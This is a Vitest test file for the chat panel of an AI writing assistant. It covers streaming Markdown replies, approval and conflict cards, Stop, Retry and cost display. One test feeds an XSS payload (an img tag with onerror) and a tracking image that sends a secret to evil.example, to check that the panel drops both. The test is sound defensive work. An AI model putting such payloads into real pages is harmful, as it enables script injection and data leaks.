// @vitest-environment happy-dom
import { mount, type VueWrapper } from '@vue/test-utils'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import ChatPanel from '../../../../client/components/ChatPanel.vue'
import { type Proposal } from '../../../../client/runtime/types'
import { deferred, flush, scriptedSkill, setUpAssistant, until, type Deferred } from './assistant-harness'

let wrapper: VueWrapper | undefined

async function mountPanel(options: Parameters<typeof setUpAssistant>[0] = {}) {
  const setup = await setUpAssistant(options)
  wrapper = mount(ChatPanel, { global: { plugins: [setup.pinia] }, attachTo: document.body })
  await flush()
  return { ...setup, wrapper }
}

const buttonNamed = (name: string) =>
  [...document.querySelectorAll('button')].find((button) => (button.getAttribute('aria-label') ?? button.textContent?.trim()) === name)
const messages = () => [...document.querySelectorAll<HTMLElement>('[data-testid="metablog-message"]')]
const lastOfKind = (kind: string) => messages().filter((message) => message.dataset.kind === kind).at(-1)

beforeEach(() => sessionStorage.clear())
afterEach(() => {
  wrapper?.unmount()
  wrapper = undefined
  document.body.innerHTML = ''
})

describe('ChatPanel', () => {
  it('is a dialog named "MetaBlog assistant" with a polite live message list', async () => {
    await mountPanel()
    const dialog = document.querySelector('[role="dialog"]')!
    expect(dialog.getAttribute('aria-label')).toBe('MetaBlog assistant')
    expect(document.querySelector('[data-testid="metablog-messages"]')!.getAttribute('aria-live')).toBe('polite')
    expect(document.querySelector('textarea[aria-label="Message MetaBlog"]')).not.toBeNull()
  })

  it('streams a reply as it arrives and renders it as Markdown', async () => {
    const gates: Record<string, Deferred> = { finish: deferred() }
    let stream!: { append(delta: string): void; done(): void }
    const skill = scriptedSkill(
      {
        start: (context) => {
          stream = context.replyStream()
          stream.append('Hello')
        },
        finish: () => {
          stream.append(' **world**')
          stream.done()
        },
      },
      gates,
    )
    const { store } = await mountPanel({ skills: [skill] })
    store.send('/ask hi')
    await until(() => lastOfKind('assistant')?.textContent?.includes('Hello'), 'the first delta')
    expect(lastOfKind('assistant')!.querySelector('.markdown')!.classList.contains('streaming')).toBe(true)
    expect(document.querySelector('[data-testid="metablog-messages"]')!.getAttribute('aria-busy')).toBe('true')

    gates.finish!.resolve()
    await until(() => lastOfKind('assistant')?.querySelector('strong'), 'the rest of the reply')
    expect(lastOfKind('assistant')!.querySelector('strong')!.textContent).toBe('world')
    expect(lastOfKind('assistant')!.querySelector('.markdown')!.classList.contains('streaming')).toBe(false)
  })

  it('highlights code, offers to copy it, and never renders raw HTML or remote images', async () => {
    const skill = scriptedSkill({
      say: (context) => context.say('```ts\nconst answer: number = 42\n```\n\n<img src=x onerror="alert(1)">\n\n![tracker](https://evil.example/p.png?q=secret)'),
    })
    const { store } = await mountPanel({ skills: [skill] })
    store.send('/ask code')
    await until(() => lastOfKind('assistant'), 'the reply')
    const reply = lastOfKind('assistant')!
    expect(reply.querySelector('.hljs-keyword')!.textContent).toBe('const')
    expect(reply.querySelector('.mb-code-lang')!.textContent).toBe('ts')
    expect(reply.querySelector('[data-copy-code]')!.textContent).toBe('Copy')
    expect(reply.querySelector('img')).toBeNull()
    expect(reply.textContent).toContain('<img src=x')
    expect(reply.querySelector('a[href^="https://evil.example"]')!.getAttribute('rel')).toBe('noopener noreferrer')
  })

  it('shows progress while a task runs and stops it with Stop', async () => {
    const gates = { wait: deferred() }
    const skill = scriptedSkill({ wait: () => undefined, never: () => undefined }, gates)
    const { store } = await mountPanel({ skills: [skill] })
    store.send('/ask something slow')
    await until(() => document.querySelector('[data-testid="metablog-progress-text"]')?.textContent === 'Step 1/2 · Step wait', 'the progress bar')
    expect(document.querySelector('[data-testid="metablog-progress"] [role="progressbar"]')).not.toBeNull()

    buttonNamed('Stop')!.click()
    await until(() => store.status === 'CANCELLED' && !store.isWorking, 'the task to stop')
    await flush()
    expect(buttonNamed('Stop')).toBeUndefined()
    expect(document.querySelector('[data-testid="metablog-progress"]')).toBeNull()
    expect(lastOfKind('assistant')!.textContent).toContain('Stopped. The task is saved')
  })

  it('an approval card waits for the author, and Accept lets the task go on', async () => {
    const proposal: Proposal = { kind: 'edit', path: 'posts/etags.md', summary: 'Tighten the intro', before: 'An ETag is a kind of fingerprint.', after: 'An ETag is a fingerprint.' }
    const skill = scriptedSkill({
      ask: async (context) => {
        const decision = await context.approve(proposal)
        context.say(decision.action === 'accept' ? 'Saved the change.' : 'Left it.')
      },
    })
    const { store } = await mountPanel({ skills: [skill] })
    store.send('/ask tighten')
    await until(() => buttonNamed('Accept'), 'the approval card')
    expect(store.status).toBe('WAITING_INPUT')
    expect(document.querySelector('[data-testid="metablog-progress-text"]')!.textContent).toContain('Waiting for your decision')

    buttonNamed('Accept')!.click()
    await until(() => store.status === 'COMPLETED', 'the task to finish')
    await flush()
    expect(document.querySelector('[data-testid="metablog-approval"]')!.getAttribute('data-status')).toBe('accepted')
    expect(lastOfKind('assistant')!.textContent).toContain('Saved the change.')
  })

  it('a delete card does not take the keyboard from an author who is typing', async () => {
    const gates = { ask: deferred() }
    const proposal: Proposal = { kind: 'delete', path: 'posts/old.md', summary: 'Delete posts/old.md', before: 'Old post', after: '' }
    const skill = scriptedSkill({ ask: (context) => context.approve(proposal) }, gates)
    const { store } = await mountPanel({ skills: [skill] })
    store.send('/ask delete posts/old.md')
    const input = document.querySelector<HTMLTextAreaElement>('[data-testid="metablog-input"]')!
    input.focus()
    store.draft = 'and then wri'
    gates.ask.resolve()
    await until(() => buttonNamed('Delete'), 'the approval card')
    await flush()
    expect(document.activeElement).toBe(input)
    expect(document.querySelector('[data-testid="metablog-approval"] [role="alert"]')!.textContent).toContain('Delete page posts/old.md')
    store.stop()
  })

  it('Escape in an approval card\'s editor cancels the edit and keeps the panel open', async () => {
    const proposal: Proposal = { kind: 'edit', path: 'posts/etags.md', summary: 'Tighten the intro', before: 'An ETag is a kind of fingerprint.', after: 'An ETag is a fingerprint.' }
    const skill = scriptedSkill({ ask: (context) => context.approve(proposal) })
    const { store, wrapper } = await mountPanel({ skills: [skill] })
    store.send('/ask tighten')
    await until(() => buttonNamed('Edit'), 'the approval card')
    buttonNamed('Edit')!.click()
    await until(() => document.querySelector('textarea[aria-label="Edited text"]'), 'the editor')
    const editor = document.querySelector<HTMLTextAreaElement>('textarea[aria-label="Edited text"]')!
    editor.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, cancelable: true }))
    await flush()
    expect(wrapper.emitted('close')).toBeUndefined()
    expect(document.querySelector('textarea[aria-label="Edited text"]')).toBeNull()
    expect(store.status).toBe('WAITING_INPUT')
    // Escape elsewhere in the panel still closes it.
    document.querySelector('[data-testid="metablog-input"]')!.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, cancelable: true }))
    expect(wrapper.emitted('close')).toHaveLength(1)
    store.stop()
  })

  it('a conflict card resolves with Re-apply or Drop', async () => {
    const skill = scriptedSkill({
      write: async (context) => context.say(`You chose ${await context.resolveConflict('posts/etags.md', 'posts/etags.md changed while this edit waited.')}.`),
    })
    const { store } = await mountPanel({ skills: [skill] })
    store.send('/ask edit')
    await until(() => buttonNamed('Drop'), 'the conflict card')
    buttonNamed('Drop')!.click()
    await until(() => store.status === 'COMPLETED', 'the task to finish')
    await flush()
    expect(document.querySelector('[data-testid="metablog-conflict"]')!.getAttribute('data-status')).toBe('drop')
    expect(lastOfKind('assistant')!.textContent).toContain('You chose drop.')
  })

  it('a stopped task leaves its approval card "not applied"', async () => {
    const proposal: Proposal = { kind: 'links', path: 'posts/etags.md', summary: 'Link 1 mention', before: 'a', after: '[[a]]' }
    const skill = scriptedSkill({ ask: (context) => context.approve(proposal) })
    const { store } = await mountPanel({ skills: [skill] })
    store.send('/ask link')
    await until(() => buttonNamed('Accept'), 'the approval card')
    buttonNamed('Stop')!.click()
    await until(() => !store.isWorking, 'the task to stop')
    await flush()
    expect(document.querySelector('[data-testid="metablog-approval"]')!.getAttribute('data-status')).toBe('interrupted')
    expect(buttonNamed('Accept')).toBeUndefined()
  })

  it('an error card retries the request that failed', async () => {
    let attempts = 0
    const skill = scriptedSkill({
      flaky: (context) => {
        attempts++
        if (attempts === 1) throw Object.assign(new Error('The model did not answer in time.'), { code: 'ERR_LLM_TIMEOUT' })
        context.say('It worked this time.')
      },
    })
    const { store } = await mountPanel({ skills: [skill] })
    store.send('/ask flaky')
    await until(() => document.querySelector('[data-testid="metablog-error"]') && !store.isWorking, 'the error card')
    const card = document.querySelector<HTMLElement>('[data-testid="metablog-error"]')!
    expect(card.textContent).toContain('The model did not answer in time.')
    expect(card.dataset.code).toBe('ERR_LLM_TIMEOUT')

    buttonNamed('Retry')!.click()
    await until(() => lastOfKind('assistant')?.textContent?.includes('It worked this time.'), 'the retried reply')
    expect(attempts).toBe(2)
    // The task was saved (the failure may pass on its own), so Retry resumed it instead of sending the request again.
    expect(messages().filter((message) => message.dataset.kind === 'user')).toHaveLength(1)
  })

  it('shows tokens and cost per reply and for the session', async () => {
    const gates = { reply: deferred() }
    const skill = scriptedSkill({ reply: (context) => context.say('Here is the answer.') }, gates)
    const { store, runtime } = await mountPanel({ skills: [skill] })
    store.send('/ask costly')
    await until(() => store.taskId, 'the task to start')
    runtime.costs.record(store.taskId!, 'gpt-4o-mini', { promptTokens: 1000, completionTokens: 234, cost: 0.0012 })
    gates.reply.resolve()
    await until(() => document.querySelector('[data-testid="metablog-reply-cost"]'), 'the reply cost')
    expect(document.querySelector('[data-testid="metablog-reply-cost"]')!.textContent).toBe('1,234 tokens · $0.0012')
    expect(document.querySelector('[data-testid="metablog-session-cost"]')!.textContent).toContain('1,234 tokens · $0.0012')
  })

  it('says "cost unknown" when the price of a call is not known', async () => {
    const gates = { reply: deferred() }
    const skill = scriptedSkill({ reply: (context) => context.say('Answer.') }, gates)
    const { store, runtime } = await mountPanel({ skills: [skill] })
    store.send('/ask unknown')
    await until(() => store.taskId, 'the task to start')
    runtime.costs.record(store.taskId!, 'some-local-model', { promptTokens: 10, completionTokens: 5 })
    gates.reply.resolve()
    await until(() => document.querySelector('[data-testid="metablog-reply-cost"]'), 'the reply cost')
    expect(document.querySelector('[data-testid="metablog-reply-cost"]')!.textContent).toBe('15 tokens · cost unknown')
  })

  it('shows a call that reported no usage as "tokens and cost unknown", per reply and for the session', async () => {
    const gates = { reply: deferred() }
    const skill = scriptedSkill({ reply: (context) => context.say('Answer.') }, gates)
    const { store, runtime } = await mountPanel({ skills: [skill] })
    store.send('/ask silent')
    await until(() => store.taskId, 'the task to start')
    runtime.costs.record(store.taskId!, 'gpt-4o-mini', null)
    gates.reply.resolve()
    await until(() => document.querySelector('[data-testid="metablog-reply-cost"]'), 'the reply cost')
    const reply = document.querySelector<HTMLElement>('[data-testid="metablog-reply-cost"]')!
    expect(reply.textContent).toBe('1 model call · tokens and cost unknown')
    expect(reply.title).toContain('did not report token usage')
    const session = document.querySelector<HTMLElement>('[data-testid="metablog-session-cost"]')!
    expect(session.textContent).toContain('1 model call · tokens and cost unknown')
    expect(session.title).toContain('did not report token usage')
  })

  it('suggestions fill the message box, and "New conversation" clears it all', async () => {
    const skill = scriptedSkill({ reply: (context) => context.say('Hi.') })
    const { store } = await mountPanel({ skills: [skill] })
    buttonNamed('/summarize')!.click()
    await flush()
    expect(store.draft).toBe('/summarize')
    store.send('/ask hi')
    await until(() => !store.isWorking && messages().length === 2, 'the reply')
    buttonNamed('New conversation')!.click()
    await flush()
    expect(messages()).toHaveLength(0)
  })
})
